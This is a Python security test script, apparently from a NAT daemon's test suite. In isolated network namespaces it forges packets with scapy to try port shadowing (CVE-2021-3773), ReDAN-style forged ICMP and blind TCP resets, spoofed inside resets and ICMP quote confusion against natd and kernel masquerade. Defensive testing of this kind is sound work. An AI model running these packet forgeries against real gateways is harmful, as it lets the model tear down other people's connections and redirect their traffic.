#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""Attacks with a few forged packets, on natd and on the kernel's masquerade, side by side.

    tests/attacks/forged.py

 - Port shadow (CVE-2021-3773): an inside host sends from the port of a service on the gateway, so that what a
   client outside asks of the service comes to the inside host. As the kernel's own nft_nat.sh has it.
 - ReDAN's two steps (NDSS 2025): a forged "fragmentation needed" reaches an inside host's path MTU by a guessed port
   alone; forged resets take a mapping away. By someone who sees nothing of the connection but its addresses.

Columns: natd sharing the host's address, natd that prefers the inside port, natd with an address of its own, nft masquerade,
and that without window check (net.netfilter.nf_conntrack_tcp_be_liberal=1, as common router firmware has it). Each says
whether the attack succeeds. Exit status 1 if one does against natd. Nothing leaves the namespaces. As root.
"""
import os
import sys
import time

TESTS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
sys.path.insert(0, os.path.join(TESTS, "integration"))
sys.dont_write_bytecode = True

from scapy.layers.inet import ICMP, IP, TCP, UDP  # noqa: E402

from wirelab import MIDDLE, S1, S2, Gateway, built  # noqa: E402

SERVICES = (405, 20405)  # below 1024, and within natd's own range


def steered(gw, port, timeout=20):
    """natd looks for new services on its own ports every few seconds, and has a rule for each."""
    end = time.monotonic() + timeout
    while f"dport {port} " not in gw.namespace.run("ip", "rule").stdout and time.monotonic() < end:
        time.sleep(0.1)


def shadow(gw, port):
    """Does a query to the gateway's service reach the inside host?"""
    attacker = gw.hosts()
    with gw.namespace.udp("0.0.0.0", port) as service:
        service.settimeout(0.5)
        if gw.kind == "natd" and port > 1024:
            steered(gw, port)
        gw.from_inside(IP(src=attacker, dst=S1) / UDP(sport=port, dport=41404) / b"shadow")
        seen = gw.from_outside(IP(src=S1, dst="203.0.113.1") / UDP(sport=41404, dport=port) / b"query")
        if any(p.dst == attacker and b"query" in bytes(p) for p in seen.inside):
            return True
        if gw.kind == "pool":
            return False
        try:
            return service.recv(100) != b"query"
        except TimeoutError:
            return True


def shadow_low(gw):
    return shadow(gw, SERVICES[0])


def shadow_high(gw):
    return shadow(gw, SERVICES[1])


def fragmentation_needed(gw):
    """A guessed port, and a sequence number that was never sent: does the inside host learn an MTU of 552?"""
    connection = gw.tcp(gw.hosts())
    for guess in range(0, 1 << 32, 1 << 29):
        quote = built(IP(src=gw.external, dst=S1) / TCP(sport=connection.port, dport=80, flags="A",
                                                        seq=(connection.inside_seq + (1 << 28) + guess) % 2**32))
        seen = gw.from_outside(IP(src=MIDDLE, dst=gw.external) / ICMP(type=3, code=4, nexthopmtu=552) / bytes(quote)[:28])
        if any(p.dst == connection.host for p in seen.inside):
            return True
    return False


def mtu_oracle(gw):
    """Does an inside host's path MTU show in the gateway's own echo replies (one of ReDAN's ways to find a NAT)?"""
    connection = gw.tcp(gw.hosts())
    sent = gw.open(connection.segment(0, "PA", b"x" * 64))
    gw.from_outside(IP(src=MIDDLE, dst=gw.external) / ICMP(type=3, code=4, nexthopmtu=552) / bytes(sent)[:28])
    echo = IP(src=S1, dst=gw.external) / ICMP(type=8, id=5, seq=1) / (b"e" * 1200)
    return any(p.flags.MF for p in gw.from_outside(echo).outside)


def is_broken(gw, connection):
    """The connection's mapping is gone, or will be before a TCP connection may be idle (RFC 5382: 2 h 4 min)."""
    left = [seconds for proto, seconds, _ in gw.sessions(connection.host) if proto == "tcp"]
    return not left or left[0] < 7000


def resets_blind(gw):
    """64 resets all over the sequence space."""
    connection = gw.tcp(gw.hosts())
    for guess in range(64):
        gw.outside.send(connection.answer((guess << 26) + (1 << 25), "R"))
    gw.settle()
    return is_broken(gw, connection)


def resets_in_window(gw):
    """The window is known, the exact number not."""
    connection = gw.tcp(gw.hosts())
    for ahead in (1, 100, 4000, 8000):
        gw.outside.send(connection.answer(ahead, "R"))
    gw.settle()
    return is_broken(gw, connection)


def exact_reset(gw):
    """The exact number, which the host itself would accept: is the mapping lost to the data that goes on (RFC 7857 2.2)?"""
    connection = gw.tcp(gw.hosts())
    gw.from_outside(connection.answer(0, "R"))
    left = [seconds for proto, seconds, _ in gw.sessions(connection.host) if proto == "tcp"]
    return not left or left[0] < 200


def reset_from_inside(gw):
    """Another inside host spoofs the server's answers towards the victim's mapping."""
    victim, attacker = gw.hosts(2)
    connection = gw.tcp(victim)
    seen = gw.from_inside(IP(src=S1, dst=gw.external) / TCP(sport=80, dport=connection.port, flags="R",
                                                           seq=connection.outside_seq),
                          IP(src=attacker, dst=gw.external) / TCP(sport=80, dport=connection.port, flags="R",
                                                                  seq=connection.outside_seq))
    return any(p.dst == victim for p in seen.inside) or is_broken(gw, connection)


def quote_confusion(gw):
    """CVE-2019-5598: an error whose outer destination is another than who sent the quoted packet."""
    host = gw.hosts()
    port = gw.udp(host)
    quote = built(IP(src=gw.external, dst=S1) / UDP(sport=port, dport=7) / b"x")
    seen = gw.from_outside(IP(src=S2, dst="203.0.113.77") / ICMP(type=3, code=1) / bytes(quote)[:28])
    return bool(seen.inside)


ATTACKS = [
    ("port shadow, service on 405", shadow_low),
    ("port shadow, service on 20405", shadow_high),
    ("ReDAN: forged 3/4, sequence unknown", fragmentation_needed),
    ("ReDAN: inside path MTU shows outside", mtu_oracle),
    ("ReDAN: 64 blind resets", resets_blind),
    ("ReDAN: resets within the window", resets_in_window),
    ("ReDAN: exact reset ends the mapping", exact_reset),
    ("reset spoofed by another inside host", reset_from_inside),
    ("ICMP quote confusion", quote_confusion),
]
COLUMNS = [
    ("natd", "natd", {}, False),
    ("preserve", "natd", {"more": 'translation = { port_selection = "preserve"; };'}, False),
    ("pool", "pool", {}, False),
    ("nft", "nft", {}, False),
    ("nft liberal", "nft", {}, True),
]


def column(kind, config, liberal):
    gateway = Gateway(kind)
    verdicts = []
    try:
        gateway.set_up(**config)
        if liberal:
            gateway.namespace.sysctl("netfilter/nf_conntrack_tcp_be_liberal", 1)
        for _, attack in ATTACKS:
            gateway.set_up(**config)
            verdicts.append(attack(gateway))
    finally:
        gateway.close()
    return verdicts


def main():
    results = [column(*how) for _, *how in COLUMNS]
    print(f"{'attack':38}" + "".join(f"{name:>13}" for name, *_ in COLUMNS))
    for i, (name, _) in enumerate(ATTACKS):
        print(f"{name:38}" + "".join(f"{'SUCCEEDS' if r[i] else 'fails':>13}" for r in results))
    lost = sum(any(r[i] for r, (_, kind, *_) in zip(results, COLUMNS) if kind != "nft") for i in range(len(ATTACKS)))
    print(f"forged: {len(ATTACKS)} attacks, {lost} succeed against natd")
    return 1 if lost else 0


if __name__ == "__main__":
    sys.exit(main())
